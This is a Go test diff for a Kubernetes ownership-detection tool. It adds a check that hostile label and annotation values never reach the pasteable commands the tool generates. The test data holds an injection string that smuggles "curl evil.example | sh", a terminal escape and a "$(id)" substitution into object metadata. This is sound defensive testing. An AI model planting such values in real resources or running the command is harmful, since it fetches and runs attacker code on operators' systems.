@@ -238,6 +238,9 @@ func TestOwnersByTheMarksThatTheyLeave(t *testing.T) {
 			var have []string
 			for _, o := range got {
 				have = append(have, strings.Join([]string{string(o.Name()), string(o.Certainty), string(o.Reverts), string(o.Code)}, "|"))
+				if len(o.Hold) > 0 && len(o.Hold) != len(o.GiveBack) {
+					t.Errorf("%s: each way to hold it needs its way back: %v, %v", o.Name(), o.Hold, o.GiveBack)
+				}
 				if len(o.Evidence) == 0 || o.Does == "" {
 					t.Errorf("%s: no evidence, or nothing said: %+v", o.Name(), o)
 				}
@@ -284,6 +287,35 @@ func TestWhatSomebodyAppliesFromTheServersSideIsAllThatHeReverts(t *testing.T) {
 		got, _ := owners.Of(&appsv1.DaemonSet{ObjectMeta: meta{Name: "agent", Namespace: "net", ManagedFields: []metav1.ManagedFieldsEntry{tc.entry}}}, "DaemonSet")
 		if len(got) != 1 || got[0].LeavesStrategy != tc.want {
 			t.Errorf("%s: %+v", name, got)
+		}
+	}
+}
+
+// Whatever an object carries, it never becomes part of a command that is made to be pasted.
+func TestHostileMarksStayOutOfCommands(t *testing.T) {
+	t.Parallel()
+	yes := true
+	const evil = "x'; curl evil.example | sh #\x1b[2J"
+	m := meta{Name: "agent", Namespace: "net", Labels: words{}, Annotations: words{}, OwnerReferences: ref("e;vil/v1", "Ki$(id)nd", evil, &yes)}
+	for _, k := range []string{"kustomize.toolkit.fluxcd.io/name", "kustomize.toolkit.fluxcd.io/namespace", "helm.toolkit.fluxcd.io/name", "helm.toolkit.fluxcd.io/namespace", "argocd.argoproj.io/instance", "app.kubernetes.io/instance", "olm.owner", "olm.owner.namespace", "kapp.k14s.io/app"} {
+		m.Labels[k] = evil
+	}
+	m.Labels["app.kubernetes.io/managed-by"], m.Labels["olm.owner.kind"] = "Helm", "ClusterServiceVersion"
+	for _, k := range []string{"argocd.argoproj.io/tracking-id", "meta.helm.sh/release-name", "meta.helm.sh/release-namespace", "objectset.rio.cattle.io/id", "objectset.rio.cattle.io/owner-name", "objectset.rio.cattle.io/owner-namespace", "components.gke.io/component-name"} {
+		m.Annotations[k] = evil
+	}
+	m.Annotations["argocd.argoproj.io/tracking-id"] = evil + ":apps/DaemonSet:net/agent"
+	m.Annotations["objectset.rio.cattle.io/owner-gvk"] = "v1, Kind=" + evil
+	m.ManagedFields = []metav1.ManagedFieldsEntry{updated(evil), updated("argocd-controller"), updated("kustomize-controller"), updated("helm"), applied("eks")}
+	got, _ := owners.Of(&appsv1.DaemonSet{ObjectMeta: m}, "DaemonSet")
+	if len(got) < 5 {
+		t.Fatalf("only %d owners: %+v", len(got), got)
+	}
+	for _, o := range got {
+		for _, c := range slices.Concat(o.Hold, o.GiveBack, o.Instead) {
+			if strings.Contains(string(c.Run), "evil.example") || strings.Contains(string(c.Run), "$(") || strings.Contains(c.String(), "\x1b") {
+				t.Errorf("%s: %q", o.Tool, c)
+			}
 		}
 	}
 }
